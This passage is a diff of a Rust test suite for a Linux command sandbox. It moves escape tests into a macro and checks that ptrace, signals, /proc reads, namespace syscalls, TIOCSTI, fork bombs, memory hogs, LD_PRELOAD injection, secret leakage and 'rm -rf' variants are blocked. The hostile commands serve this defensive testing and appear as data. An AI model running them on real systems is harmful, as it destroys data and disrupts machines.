+        let _l2 = {
+            use std::os::linux::net::SocketAddrExt;
+            let addr =
+                std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).expect("abstract");
+            std::os::unix::net::UnixListener::bind_addr(&addr).expect("bind abstract")
+        };
+        for policy in ["strict", "standard", "permissive"] {
+            let code = format!(
+                "import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect({:?})\nprint('CONNECTED')",
+                path.display().to_string()
+            );
+            let o = python(&env, policy, &code);
+            assert_stdout_lacks(&o, "CONNECTED", &format!("{policy} pathname"));
+            let code = format!(
+                "import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect('\\0{name}')\nprint('CONNECTED')"
+            );
+            let o = python(&env, policy, &code);
+            assert_stdout_lacks(&o, "CONNECTED", &format!("{policy} abstract"));
+        }
+        assert_attack_blocked("strict", "socket-unix", None);
+        // socketpair stays available.
+        let env = Env::new("socketpair");
+        let a = env.attack();
+        let o = env.exec("strict", &[&a, "socketpair"]);
+        assert!(stdout(&o).contains("OK socketpair"), "{}", text(&o));
     }
-    let env = Env::new("loopback");
-    let code = "import socket\ns=socket.socket()\ns.bind(('127.0.0.1',0))\ns.listen()\nc=socket.create_connection(s.getsockname())\na,_=s.accept()\nc.send(b'ping')\nprint(a.recv(4).decode())";
-    let o = python(&env, "standard", code);
-    assert_eq!(stdout(&o).trim(), "ping", "{}", text(&o));
+}
+
+sandbox_test! {
+    fn standard_loopback_is_private_and_works() {
+        let env = Env::new("loopback");
+        let code = "import socket\ns=socket.socket()\ns.bind(('127.0.0.1',0))\ns.listen()\nc=socket.create_connection(s.getsockname())\na,_=s.accept()\nc.send(b'ping')\nprint(a.recv(4).decode())";
+        let o = python(&env, "standard", code);
+        assert_eq!(stdout(&o).trim(), "ping", "{}", text(&o));
+    }
 }
 
 // ---------------------------------------------------------------- processes
 
-#[test]
-fn escape_signal_outside_process() {
-    if skip() {
-        return;
-    }
-    let mut victim = Outside::sleep("x");
-    for policy in ["strict", "standard"] {
-        assert_attack_blocked(policy, "kill", Some(&victim.pid()));
-        let env = Env::new("kill");
-        let _ = env.exec(policy, &["kill", "-9", &victim.pid()]);
-        assert!(victim.alive(), "{policy}: the outside process was killed");
-    }
-}
-
-#[test]
-fn escape_ptrace_outside_process() {
-    if skip() {
-        return;
-    }
-    let victim = Outside::sleep("x");
-    for policy in ["strict", "standard", "permissive"] {
-        assert_attack_blocked(policy, "ptrace", Some(&victim.pid()));
-        assert_attack_blocked(policy, "ptrace-seize", Some(&victim.pid()));
-    }
-    // ptrace of a process inside the sandbox is denied too (seccomp, not only pid visibility).
-    let env = Env::new("ptrace-in");
-    let a = env.attack();
-    let o = env.sh("strict", &format!("sleep 30 & {a} ptrace $!"));
-    assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
-}
-
-#[test]
-fn escape_proc_of_outside_process() {
-    if skip() {
-        return;
-    }
-    let victim = Outside::sleep("OUTSIDE-ENV-SECRET");
-    let pid = victim.pid();
-    let env = Env::new("procpid");
-    for policy in ["strict", "standard", "permissive"] {
-        for f in ["environ", "cmdline", "mem", "maps"] {
-            let o = env.exec(policy, &["cat", &format!("/proc/{pid}/{f}")]);
-            assert_ne!(o.status.code(), Some(0), "{policy} {f}: {}", text(&o));
-            assert!(!stdout(&o).contains("OUTSIDE-ENV-SECRET"));
-        }
-        // The pid namespace shows only the sandbox's own processes.
-        let o = env.sh(policy, "ls /proc | grep -E '^[0-9]+$' | wc -l");
-        let n: usize = stdout(&o).trim().parse().unwrap_or(999);
-        assert!(n < 10, "{policy}: {n} processes visible: {}", text(&o));
-    }
-}
-
-#[test]
-fn escape_namespaces_and_mounts() {
-    if skip() {
-        return;
-    }
-    for policy in ["strict", "standard", "permissive"] {
-        for mode in [
-            "mount",
-            "umount",
-            "chroot",
-            "unshare-user",
-            "unshare-ns",
-            "unshare-net",
-            "setns",
-            "clone-newuser",
-            "clone3",
-        ] {
-            assert_attack_blocked(policy, mode, None);
+sandbox_test! {
+    fn escape_signal_outside_process() {
+        let mut victim = Outside::sleep("x");
+        for policy in ["strict", "standard"] {
+            assert_attack_blocked(policy, "kill", Some(&victim.pid()));
+            let env = Env::new("kill");
+            let _ = env.exec(policy, &["kill", "-9", &victim.pid()]);
+            assert!(victim.alive(), "{policy}: the outside process was killed");
         }
     }
 }
 
-#[test]
-fn escape_dangerous_syscalls() {
-    if skip() {
-        return;
+sandbox_test! {
+    fn escape_ptrace_outside_process() {
+        let victim = Outside::sleep("x");
+        for policy in ["strict", "standard", "permissive"] {
+            assert_attack_blocked(policy, "ptrace", Some(&victim.pid()));
+            assert_attack_blocked(policy, "ptrace-seize", Some(&victim.pid()));
+        }
+        // ptrace of a process inside the sandbox is denied too (seccomp, not only pid visibility).
+        let env = Env::new("ptrace-in");
+        let a = env.attack();
+        let o = env.sh("strict", &format!("sleep 30 & {a} ptrace $!"));
+        assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
     }
-    for policy in ["strict", "standard", "permissive"] {
-        for mode in [
-            "io_uring",
-            "bpf",
-            "keyctl",
-            "add_key",
-            "perf",
-            "userfaultfd",
-            "personality",
-            "open_by_handle",
-            "x32-getpid",
-        ] {
-            assert_attack_blocked(policy, mode, None);
+}
+
+sandbox_test! {
+    fn escape_proc_of_outside_process() {
+        let victim = Outside::sleep("OUTSIDE-ENV-SECRET");
+        let pid = victim.pid();
+        let env = Env::new("procpid");
+        for policy in ["strict", "standard", "permissive"] {
+            for f in ["environ", "cmdline", "mem", "maps"] {
+                let o = env.exec(policy, &["cat", &format!("/proc/{pid}/{f}")]);
+                assert_ne!(o.status.code(), Some(0), "{policy} {f}: {}", text(&o));
+                assert!(!stdout(&o).contains("OUTSIDE-ENV-SECRET"));
+            }
+            // The pid namespace shows only the sandbox's own processes.
+            let o = env.sh(policy, "ls /proc | grep -E '^[0-9]+$' | wc -l");
+            let n: usize = stdout(&o).trim().parse().unwrap_or(999);
+            assert!(n < 10, "{policy}: {n} processes visible: {}", text(&o));
         }
     }
-    let victim = Outside::sleep("x");
-    assert_attack_blocked("strict", "x32-ptrace", Some(&victim.pid()));
+}
+
+sandbox_test! {
+    fn escape_namespaces_and_mounts() {
+        for policy in ["strict", "standard", "permissive"] {
+            for mode in [
+                "mount",
+                "umount",
+                "chroot",
+                "unshare-user",
+                "unshare-ns",
+                "unshare-net",
+                "setns",
+                "clone-newuser",
+                "clone3",
+            ] {
+                assert_attack_blocked(policy, mode, None);
+            }
+        }
+    }
+}
+
+sandbox_test! {
+    fn escape_dangerous_syscalls() {
+        for policy in ["strict", "standard", "permissive"] {
+            for mode in [
+                "io_uring",
+                "bpf",
+                "keyctl",
+                "add_key",
+                "perf",
+                "userfaultfd",
+                "personality",
+                "open_by_handle",
+                "x32-getpid",
+            ] {
+                assert_attack_blocked(policy, mode, None);
+            }
+        }
+        let victim = Outside::sleep("x");
+        assert_attack_blocked("strict", "x32-ptrace", Some(&victim.pid()));
+    }
 }
 
 #[test]
@@ -836,276 +807,242 @@ fn attack_fixture_detects_escapes_when_not_confined() {
     assert_eq!(o.status.code(), Some(1));
 }
 
-#[test]
-fn escape_tiocsti_under_a_pty() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("tiocsti");
-    let a = env.attack();
-    for mode in ["tiocsti", "tiocsti-highbits"] {
-        // python's pty module gives the gateway (and so the sandbox) a terminal as stdin.
-        let o = Command::new("python3")
-            .args([
-                "-c",
-                "import pty,sys; sys.exit(pty.spawn(sys.argv[1:]) >> 8)",
-            ])
-            .args([BIN, "exec", "--policy", "strict", "--", &a, mode])
-            .current_dir(&env.ws)
-            .env("HOME", &env.home)
-            .env("GATEWAY_STATE_DIR", &env.state)
-            .output()
-            .expect("run under pty");
-        assert!(stdout(&o).contains("BLOCKED"), "{mode}: {}", text(&o));
-        assert!(!stdout(&o).contains("ESCAPED"), "{mode}: {}", text(&o));
-    }
-}
-
-#[test]
-fn escape_mknod_and_capabilities() {
-    if skip() {
-        return;
-    }
-    for policy in ["strict", "standard", "permissive"] {
-        assert_attack_blocked(policy, "mknod", None);
-        assert_attack_blocked(policy, "caps", None);
-        assert_attack_blocked(policy, "setuid", None);
-    }
-    let env = Env::new("caps");
-    let f = env.write("locked", "LOCKED-CONTENT");
-    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o000)).expect("chmod");
-    // CAP_DAC_OVERRIDE: root without it cannot read a mode-000 file.
-    let o = env.exec("strict", &["cat", "locked"]);
-    assert!(!stdout(&o).contains("LOCKED-CONTENT"), "{}", text(&o));
-    assert_ne!(o.status.code(), Some(0));
-    // CAP_CHOWN.
-    let a = env.attack();
-    let o = env.exec("strict", &[&a, "chown", "locked"]);
-    assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
-    // CAP_NET_RAW (also seccomp): ping needs a raw or ICMP socket.
-    let o = env.exec("standard", &["python3", "-c", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\nprint('RAW')"]);
-    assert!(!stdout(&o).contains("RAW"), "{}", text(&o));
-}
-
-#[test]
-fn escape_timeout_by_setsid() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("setsid");
-    let marker = format!("1{}.25", std::process::id());
-    let o = env
-        .cmd()
-        .args([
-            "exec",
-            "--policy",
-            "strict",
-            "--timeout",
-            "1",
-            "--",
-            "sh",
-            "-c",
-        ])
-        .arg(format!(
-            "setsid sleep {marker} & setsid sh -c 'sleep {marker}' & sleep {marker}"
-        ))
-        .output()
-        .expect("run");
-    assert_eq!(o.status.code(), Some(124), "{}", text(&o));
-    std::thread::sleep(std::time::Duration::from_millis(200));
-    assert!(
-        processes_with(&marker).is_empty(),
-        "survivors: {:?}",
-        processes_with(&marker)
-    );
-}
-
-#[test]
-fn escape_background_survivor() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("bg");
-    let marker = format!("2{}.5", std::process::id());
-    for policy in ["strict", "standard"] {
-        let o = env.sh(
-            policy,
-            &format!("nohup sleep {marker} >/dev/null 2>&1 & (setsid sleep {marker} &) ; (sleep {marker} & ) ; echo started"),
-        );
-        assert_eq!(o.status.code(), Some(0), "{policy}: {}", text(&o));
-        std::thread::sleep(std::time::Duration::from_millis(200));
-        assert!(
-            processes_with(&marker).is_empty(),
-            "{policy} survivors: {:?}",
-            processes_with(&marker)
-        );
-    }
-}
-
-#[test]
-fn escape_fork_bomb() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("forkbomb");
-    // The fixture's bomb hits the process limit.
-    let a = env.attack();
-    let o = env.exec("strict", &[&a, "forkbomb"]);
-    assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
-    // A shell fork bomb is contained and killed at the timeout, leaving nothing behind.
-    let o = env
-        .cmd()
-        .args([
-            "exec",
-            "--policy",
-            "strict",
-            "--timeout",
-            "3",
-            "--",
-            "sh",
-            "-c",
-            "bomb() { bomb | bomb & }; bomb",
-        ])
-        .output()
-        .expect("run");
-    assert!(
-        matches!(o.status.code(), Some(124) | Some(0)),
-        "{}",
-        text(&o)
-    );
-    std::thread::sleep(std::time::Duration::from_millis(200));
-    assert!(
-        processes_with("bomb")
-            .iter()
-            .all(|p| p.contains("cargo") || p.contains("tests")),
-        "{:?}",
-        processes_with("bomb")
-    );
-}
-
-#[test]
-fn escape_memory_hog() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("memhog");
-    let p = env.policy_file("extends = \"strict\"\n[sandbox.limits]\nmemory = \"512MiB\"\n");
-    let a = env.attack();
-    let o = env.exec(&p, &[&a, "memhog"]);
-    assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
-    let o = env.exec(
-        &p,
-        &[
-            "python3",
-            "-c",
-            "x = bytearray(2 * 1024**3)\nprint('ALLOCATED')",
-        ],
-    );
-    assert!(!stdout(&o).contains("ALLOCATED"), "{}", text(&o));
-    assert_ne!(o.status.code(), Some(0));
-}
-
-#[test]
-fn escape_scrubbed_env_and_ld_preload() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("envscrub");
-    let lib_src = env.root.join("inject.c");
-    std::fs::write(&lib_src, "#define _GNU_SOURCE\n#include <errno.h>\n#include <stdio.h>\n__attribute__((constructor)) static void i(void){ fprintf(stderr, \"INJECTED into %s\\n\", program_invocation_short_name); }\n").expect("write");
-    let lib = env.outside.join("inject.so");
-    gcc(&lib_src, &lib, &["-shared", "-fPIC"]);
-    for policy in ["strict", "standard", "permissive"] {
-        let o = env
-            .cmd()
-            .args(["exec", "--policy", policy, "--", "env"])
-            .env("GITHUB_TOKEN", "ghp_SECRETVALUE1")
-            .env("AWS_SECRET_ACCESS_KEY", "AWSSECRETVALUE2")
-            .env("DB_PASSWORD", "PASSWORDVALUE3")
-            .env("MY_API_KEY", "APIKEYVALUE4")
-            .env("SSH_AUTH_SOCK", "/tmp/agent.sock")
-            .env("LD_PRELOAD", &lib)
-            .env("BASH_ENV", "/tmp/evil")
-            .output()
-            .expect("run");
-        let out = text(&o);
-        assert_eq!(o.status.code(), Some(0), "{policy}: {out}");
-        // (The caller's own LD_PRELOAD also loads into the gateway process itself; what matters
-        // is that it does not reach the sandboxed program, `env`.)
-        for leaked in [
-            "SECRETVALUE1",
-            "AWSSECRETVALUE2",
-            "PASSWORDVALUE3",
-            "APIKEYVALUE4",
-            "SSH_AUTH_SOCK",
-            "LD_PRELOAD=",
-            "INJECTED into env",
-            "BASH_ENV",
-        ] {
-            assert!(!out.contains(leaked), "{policy} leaked {leaked}: {out}");
+sandbox_test! {
+    fn escape_tiocsti_under_a_pty() {
+        let env = Env::new("tiocsti");
+        let a = env.attack();
+        for mode in ["tiocsti", "tiocsti-highbits"] {
+            // python's pty module gives the gateway (and so the sandbox) a terminal as stdin.
+            let o = env
+                .raw("python3")
+                .args([
+                    "-c",
+                    "import pty,sys; sys.exit(pty.spawn(sys.argv[1:]) >> 8)",
+                ])
+                .args([BIN, "exec", "--policy", "strict", "--", &a, mode])
+                .output()
+                .expect("run under pty");
+            assert!(stdout(&o).contains("BLOCKED"), "{mode}: {}", text(&o));
+            assert_stdout_lacks(&o, "ESCAPED", mode);
         }
     }
-    // The library does inject when not scrubbed (control).
-    let o = Command::new("true")
-        .env("LD_PRELOAD", &lib)
-        .output()
-        .expect("run");
-    assert!(String::from_utf8_lossy(&o.stderr).contains("INJECTED into true"));
-    // Asking for a scrubbed variable explicitly is refused.
-    let o = env
-        .cmd()
-        .args([
-            "exec",
-            "--policy",
-            "strict",
-            "--env",
-            "LD_PRELOAD=/x.so",
-            "--",
-            "true",
-        ])
-        .output()
-        .expect("run");
-    assert_eq!(o.status.code(), Some(122), "{}", text(&o));
+}
+
+sandbox_test! {
+    fn escape_mknod_and_capabilities() {
+        for policy in ["strict", "standard", "permissive"] {
+            assert_attack_blocked(policy, "mknod", None);
+            assert_attack_blocked(policy, "caps", None);
+            assert_attack_blocked(policy, "setuid", None);
+        }
+        let env = Env::new("caps");
+        let f = env.write("locked", "LOCKED-CONTENT");
+        std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o000)).expect("chmod");
+        // CAP_DAC_OVERRIDE: root without it cannot read a mode-000 file.
+        let o = env.exec("strict", &["cat", "locked"]);
+        assert_stdout_lacks(&o, "LOCKED-CONTENT", "");
+        assert_ne!(o.status.code(), Some(0));
+        // CAP_CHOWN.
+        let a = env.attack();
+        let o = env.exec("strict", &[&a, "chown", "locked"]);
+        assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
+        // CAP_NET_RAW (also seccomp): ping needs a raw or ICMP socket.
+        let o = env.exec("standard", &["python3", "-c", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\nprint('RAW')"]);
+        assert_stdout_lacks(&o, "RAW", "");
+    }
+}
+
+sandbox_test! {
+    fn escape_timeout_by_setsid() {
+        let env = Env::new("setsid");
+        let marker = format!("1{}.25", std::process::id());
+        let o = env
+            .cmd()
+            .args([
+                "exec",
+                "--policy",
+                "strict",
+                "--timeout",
+                "1",
+                "--",
+                "sh",
+                "-c",
+            ])
+            .arg(format!(
+                "setsid sleep {marker} & setsid sh -c 'sleep {marker}' & sleep {marker}"
+            ))
+            .output()
+            .expect("run");
+        assert_eq!(o.status.code(), Some(124), "{}", text(&o));
+        assert_no_survivors(&marker, "setsid");
+    }
+}
+
+sandbox_test! {
+    fn escape_background_survivor() {
+        let env = Env::new("bg");
+        let marker = format!("2{}.5", std::process::id());
+        for policy in ["strict", "standard"] {
+            let o = env.sh(
+                policy,
+                &format!("nohup sleep {marker} >/dev/null 2>&1 & (setsid sleep {marker} &) ; (sleep {marker} & ) ; echo started"),
+            );
+            assert_eq!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            assert_no_survivors(&marker, policy);
+        }
+    }
+}
+
+sandbox_test! {
+    fn escape_fork_bomb() {
+        let env = Env::new("forkbomb");
+        // The fixture's bomb hits the process limit.
+        let a = env.attack();
+        let o = env.exec("strict", &[&a, "forkbomb"]);
+        assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
+        // A shell fork bomb is contained and killed at the timeout, leaving nothing behind.
+        let o = env
+            .cmd()
+            .args([
+                "exec",
+                "--policy",
+                "strict",
+                "--timeout",
+                "3",
+                "--",
+                "sh",
+                "-c",
+                "bomb() { bomb | bomb & }; bomb",
+            ])
+            .output()
+            .expect("run");
+        assert!(
+            matches!(o.status.code(), Some(124) | Some(0)),
+            "{}",
+            text(&o)
+        );
+        // The bomb's shells run `sh -c ... bomb ...`; none may remain.
+        assert_no_survivors("bomb | bomb", "fork bomb");
+    }
+}
+
+sandbox_test! {
+    fn escape_memory_hog() {
+        let env = Env::new("memhog");
+        let p = env.policy_file("extends = \"strict\"\n[sandbox.limits]\nmemory = \"512MiB\"\n");
+        let a = env.attack();
+        let o = env.exec(&p, &[&a, "memhog"]);
+        assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
+        let o = env.exec(
+            &p,
+            &[
+                "python3",
+                "-c",
+                "x = bytearray(2 * 1024**3)\nprint('ALLOCATED')",
+            ],
+        );
+        assert_stdout_lacks(&o, "ALLOCATED", "");
+        assert_ne!(o.status.code(), Some(0));
+    }
+}
+
+sandbox_test! {
+    fn escape_scrubbed_env_and_ld_preload() {
+        let env = Env::new("envscrub");
+        let lib_src = env.root.join("inject.c");
+        std::fs::write(&lib_src, "#define _GNU_SOURCE\n#include <errno.h>\n#include <stdio.h>\n__attribute__((constructor)) static void i(void){ fprintf(stderr, \"INJECTED into %s\\n\", program_invocation_short_name); }\n").expect("write");
+        let lib = env.outside.join("inject.so");
+        gcc(&lib_src, &lib, &["-shared", "-fPIC"]);
+        for policy in ["strict", "standard", "permissive"] {
+            let o = env
+                .cmd()
+                .args(["exec", "--policy", policy, "--", "env"])
+                .env("GITHUB_TOKEN", "ghp_SECRETVALUE1")
+                .env("AWS_SECRET_ACCESS_KEY", "AWSSECRETVALUE2")
+                .env("DB_PASSWORD", "PASSWORDVALUE3")
+                .env("MY_API_KEY", "APIKEYVALUE4")
+                .env("SSH_AUTH_SOCK", "/tmp/agent.sock")
+                .env("LD_PRELOAD", &lib)
+                .env("BASH_ENV", "/tmp/evil")
+                .output()
+                .expect("run");
+            let out = text(&o);
+            assert_eq!(o.status.code(), Some(0), "{policy}: {out}");
+            // (The caller's own LD_PRELOAD also loads into the gateway process itself; what matters
+            // is that it does not reach the sandboxed program, `env`.)
+            for leaked in [
+                "SECRETVALUE1",
+                "AWSSECRETVALUE2",
+                "PASSWORDVALUE3",
+                "APIKEYVALUE4",
+                "SSH_AUTH_SOCK",
+                "LD_PRELOAD=",
+                "INJECTED into env",
+                "BASH_ENV",
+            ] {
+                assert!(!out.contains(leaked), "{policy} leaked {leaked}: {out}");
+            }
+        }
+        // The library does inject when not scrubbed (control).
+        let o = Command::new("true")
+            .env("LD_PRELOAD", &lib)
+            .output()
+            .expect("run");
+        assert!(String::from_utf8_lossy(&o.stderr).contains("INJECTED into true"));
+        // Asking for a scrubbed variable explicitly is refused.
+        let o = env
+            .cmd()
+            .args([
+                "exec",
+                "--policy",
+                "strict",
+                "--env",
+                "LD_PRELOAD=/x.so",
+                "--",
+                "true",
+            ])
+            .output()
+            .expect("run");
+        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
+    }
 }
 
 // ---------------------------------------------------------------- policy decisions
 
-#[test]
-fn policy_denies_destructive_commands() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("deny");
-    env.write("keep/a.txt", "keep");
-    for argv in [
-        vec!["rm", "-rf", "keep"],
-        vec!["rm", "-fr", "keep"],
-        vec!["rm", "-r", "-f", "keep"],
-        vec!["/bin/rm", "-rf", "keep"],
-        vec!["sh", "-c", "ls; rm -rf keep"],
-        vec!["bash", "-c", "echo x && rm -rf keep"],
-        vec!["sh", "-c", "$(echo rm) -rf keep"],
-    ] {
-        let o = env.exec("strict", &argv);
-        assert_eq!(o.status.code(), Some(120), "{argv:?}: {}", text(&o));
-        let err = String::from_utf8_lossy(&o.stderr);
+sandbox_test! {
+    fn policy_denies_destructive_commands() {
+        let env = Env::new("deny");
+        env.write("keep/a.txt", "keep");
+        for argv in [
+            vec!["rm", "-rf", "keep"],
+            vec!["rm", "-fr", "keep"],
+            vec!["rm", "-r", "-f", "keep"],
+            vec!["/bin/rm", "-rf", "keep"],
+            vec!["sh", "-c", "ls; rm -rf keep"],
+            vec!["bash", "-c", "echo x && rm -rf keep"],
+            vec!["sh", "-c", "$(echo rm) -rf keep"],
+        ] {
+            let o = env.exec("strict", &argv);
+            assert_eq!(o.status.code(), Some(120), "{argv:?}: {}", text(&o));
+            let err = String::from_utf8_lossy(&o.stderr);
+            assert!(
+                err.contains("rule deny-rm-recursive-force"),
+                "{argv:?}: {err}"
+            );
+            assert!(env.ws.join("keep/a.txt").exists());
+        }
+        // standard asks; without a terminal that means "not run", with its own exit code.
+        let o = env.exec("standard", &["rm", "-rf", "keep"]);
+        assert_eq!(o.status.code(), Some(121), "{}", text(&o));
         assert!(
-            err.contains("rule deny-rm-recursive-force"),
-            "{argv:?}: {err}"
+            String::from_utf8_lossy(&o.stderr).contains("no terminal"),
+            "{}",
+            text(&o)
         );
         assert!(env.ws.join("keep/a.txt").exists());
+        let o = env.exec("standard", &["rm", "-rf", "/"]);
+        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
     }
-    // standard asks; without a terminal that means "not run", with its own exit code.
-    let o = env.exec("standard", &["rm", "-rf", "keep"]);
-    assert_eq!(o.status.code(), Some(121), "{}", text(&o));
-    assert!(
-        String::from_utf8_lossy(&o.stderr).contains("no terminal"),
-        "{}",
-        text(&o)
-    );
-    assert!(env.ws.join("keep/a.txt").exists());
-    let o = env.exec("standard", &["rm", "-rf", "/"]);
-    assert_eq!(o.status.code(), Some(120), "{}", text(&o));
 }
 
 #[test]
@@ -1170,139 +1107,134 @@ fn policy_check_reports_file_line_column() {
 
 // ---------------------------------------------------------------- bad input
 
-#[test]
-fn bad_input_gets_one_line_errors_and_documented_codes() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("badinput");
-    let bad = env.policy_file("[sandbox]\nnetwork = 5\n");
-    let cases: Vec<(Vec<String>, i32, &str)> = vec![
-        (
-            vec![
-                "exec".into(),
-                "--policy".into(),
-                bad.clone(),
-                "--".into(),
-                "true".into(),
-            ],
-            123,
-            ":2:",
-        ),
-        (
-            vec![
-                "exec".into(),
-                "--policy".into(),
-                "nosuch".into(),
-                "--".into(),
-                "true".into(),
-            ],
-            123,
-            "unknown policy `nosuch`",
-        ),
-        (
-            vec!["exec".into(), "--policy".into(), "strict".into()],
-            122,
-            "required",
-        ),
-        (
-            vec![
-                "exec".into(),
-                "--policy".into(),
-                "strict".into(),
-                "--".into(),
-                "no-such-program-xyz".into(),
-            ],
-            127,
-            "command not found",
-        ),
-        (
-            vec![
-                "exec".into(),
-                "--policy".into(),
-                "strict".into(),
-                "--cwd".into(),
-                "/".into(),
-                "--".into(),
-                "true".into(),
-            ],
-            122,
-            "workspace",
-        ),
-        (
-            vec![
-                "exec".into(),
-                "--policy".into(),
-                "strict".into(),
-                "--cwd".into(),
-                env.home.display().to_string(),
-                "--".into(),
-                "true".into(),
-            ],
-            122,
-            "is not allowed",
-        ),
-        (
-            vec![
-                "exec".into(),
-                "--policy".into(),
-                "strict".into(),
-                "--cwd".into(),
-                "/nonexistent-dir".into(),
-                "--".into(),
-                "true".into(),
-            ],
-            122,
-            "--cwd",
-        ),
-        (
-            vec![
-                "exec".into(),
-                "--policy".into(),
-                "strict".into(),
-                "--timeout".into(),
-                "-1".into(),
-                "--".into(),
-                "true".into(),
-            ],
-            122,
-            "timeout",
-        ),
-        (vec!["exec".into(), "--bogus".into()], 122, "bogus"),
-        (
-            vec![
-                "exec".into(),
-                "--policy".into(),
-                "strict".into(),
-                "--".into(),
-                "/etc/hostname".into(),
-            ],
-            126,
-            "cannot execute",
-        ),
-    ];
-    std::fs::create_dir_all(env.home.join(".ssh")).expect("mkdir");
-    for (args, code, needle) in cases {
-        let o = env.cmd().args(&args).output().expect("run");
-        let err = String::from_utf8_lossy(&o.stderr).to_string();
-        assert_eq!(o.status.code(), Some(code), "{args:?}: {}", text(&o));
-        assert!(err.contains(needle), "{args:?}: {err}");
-        assert!(!err.contains("panicked"), "{args:?}: {err}");
+sandbox_test! {
+    fn bad_input_gets_one_line_errors_and_documented_codes() {
+        let env = Env::new("badinput");
+        let bad = env.policy_file("[sandbox]\nnetwork = 5\n");
+        let cases: Vec<(Vec<String>, i32, &str)> = vec![
+            (
+                vec![
+                    "exec".into(),
+                    "--policy".into(),
+                    bad.clone(),
+                    "--".into(),
+                    "true".into(),
+                ],
+                123,
+                ":2:",
+            ),
+            (
+                vec![
+                    "exec".into(),
+                    "--policy".into(),
+                    "nosuch".into(),
+                    "--".into(),
+                    "true".into(),
+                ],
+                123,
+                "unknown policy `nosuch`",
+            ),
+            (
+                vec!["exec".into(), "--policy".into(), "strict".into()],
+                122,
+                "required",
+            ),
+            (
+                vec![
+                    "exec".into(),
+                    "--policy".into(),
+                    "strict".into(),
+                    "--".into(),
+                    "no-such-program-xyz".into(),
+                ],
+                127,
+                "command not found",
+            ),
+            (
+                vec![
+                    "exec".into(),
+                    "--policy".into(),
+                    "strict".into(),
+                    "--cwd".into(),
+                    "/".into(),
+                    "--".into(),
+                    "true".into(),
+                ],
+                122,
+                "workspace",
+            ),
+            (
+                vec![
+                    "exec".into(),
+                    "--policy".into(),
+                    "strict".into(),
+                    "--cwd".into(),
+                    env.home.display().to_string(),
+                    "--".into(),
+                    "true".into(),
+                ],
+                122,
+                "is not allowed",
+            ),
+            (
+                vec![
+                    "exec".into(),
+                    "--policy".into(),
+                    "strict".into(),
+                    "--cwd".into(),
+                    "/nonexistent-dir".into(),
+                    "--".into(),
+                    "true".into(),
+                ],
+                122,
+                "--cwd",
+            ),
+            (
+                vec![
+                    "exec".into(),
+                    "--policy".into(),
+                    "strict".into(),
+                    "--timeout".into(),
+                    "-1".into(),
+                    "--".into(),
+                    "true".into(),
+                ],
+                122,
+                "timeout",
+            ),
+            (vec!["exec".into(), "--bogus".into()], 122, "bogus"),
+            (
+                vec![
+                    "exec".into(),
+                    "--policy".into(),
+                    "strict".into(),
+                    "--".into(),
+                    "/etc/hostname".into(),
+                ],
+                126,
+                "cannot execute",
+            ),
+        ];
+        std::fs::create_dir_all(env.home.join(".ssh")).expect("mkdir");
+        for (args, code, needle) in cases {
+            let o = env.cmd().args(&args).output().expect("run");
+            let err = String::from_utf8_lossy(&o.stderr).to_string();
+            assert_eq!(o.status.code(), Some(code), "{args:?}: {}", text(&o));
+            assert!(err.contains(needle), "{args:?}: {err}");
+            assert!(!err.contains("panicked"), "{args:?}: {err}");
+        }
     }
 }
 
-#[test]
-fn kernel_without_landlock_fails_closed() {
-    if skip() {
-        return;
-    }
-    // A wrapper installs a seccomp filter that makes landlock_create_ruleset fail with ENOSYS,
-    // exactly what a kernel without landlock answers, then runs the gateway.
-    let env = Env::new("nolandlock");
-    let src = env.root.join("nolandlock.c");
-    std::fs::write(
-        &src,
-        r#"#include <linux/filter.h>
+sandbox_test! {
+    fn kernel_without_landlock_fails_closed() {
+        // A wrapper installs a seccomp filter that makes landlock_create_ruleset fail with ENOSYS,
+        // exactly what a kernel without landlock answers, then runs the gateway.
+        let env = Env::new("nolandlock");
+        let src = env.root.join("nolandlock.c");
+        std::fs::write(
+            &src,
+            r#"#include <linux/filter.h>
 #include <linux/seccomp.h>
 #include <stddef.h>
 #include <errno.h>
@@ -1310,253 +1242,236 @@ fn kernel_without_landlock_fails_closed() {
 #include <sys/syscall.h>
 #include <unistd.h>
 int main(int argc, char **argv) {
-    struct sock_filter f[] = {
-        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
-        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_landlock_create_ruleset, 0, 1),
-        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
-        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
-    };
-    struct sock_fprog p = { sizeof f / sizeof f[0], f };
-    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) || prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &p)) return 99;
-    execv(argv[1], argv + 1);
-    return 98;
+        struct sock_filter f[] = {
+            BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+            BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_landlock_create_ruleset, 0, 1),
+            BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
